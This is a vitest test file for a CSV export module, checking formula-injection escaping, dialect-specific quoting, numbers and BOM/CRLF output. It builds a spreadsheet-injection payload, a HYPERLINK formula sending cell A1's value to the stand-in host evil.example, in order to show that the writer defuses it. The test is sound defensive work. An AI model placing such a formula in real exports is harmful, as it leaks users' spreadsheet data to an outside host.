import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../server/csv.ts';

describe('the CSV writer', () => {
  it('neutralises every formula start OWASP lists, in text only', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const value = `${start}HYPERLINK("http://evil.example/?x="&A1,"Click")`;
      const out = csvField(value, 'excel-nl');
      expect(out).toBe(`"'${value.replaceAll('"', '""')}"`); // quoted for its own quotes
      expect(csvField(`${start}cmd`, 'excel-nl')).toBe(start === '\r' ? `"'\rcmd"` : `'${start}cmd`);
    }
    expect(csvField('=1+1', 'rfc4180')).toBe(`'=1+1`);
    expect(csvField('a=1', 'excel-nl')).toBe('a=1'); // only a leading sign is a formula
    expect(csvField(-3.5, 'excel-nl')).toBe('-3,5'); // numbers stay numbers
    expect(csvField(-3.5, 'rfc4180')).toBe('-3.5');
  });

  it('quotes separators, quotes and line breaks for the dialect', () => {
    expect(csvField('a;b', 'excel-nl')).toBe('"a;b"');
    expect(csvField('a;b', 'rfc4180')).toBe('a;b');
    expect(csvField('a,b', 'rfc4180')).toBe('"a,b"');
    expect(csvField('say "hi"', 'excel-nl')).toBe('"say ""hi"""');
    expect(csvField('two\nlines', 'excel-nl')).toBe('"two\nlines"');
    expect(csvField(null, 'excel-nl')).toBe('');
    expect(csvField(true, 'excel-nl')).toBe('true');
    expect(csvField(Number.NaN, 'excel-nl')).toBe('');
  });

  it('writes a BOM, the header and CRLF lines', () => {
    const text = toCsv(['a', 'b'], [[1.5, '@x'], [null, 'y']], 'excel-nl');
    expect(text).toBe(`\uFEFFa;b\r\n1,5;'@x\r\n;y\r\n`);
  });
});
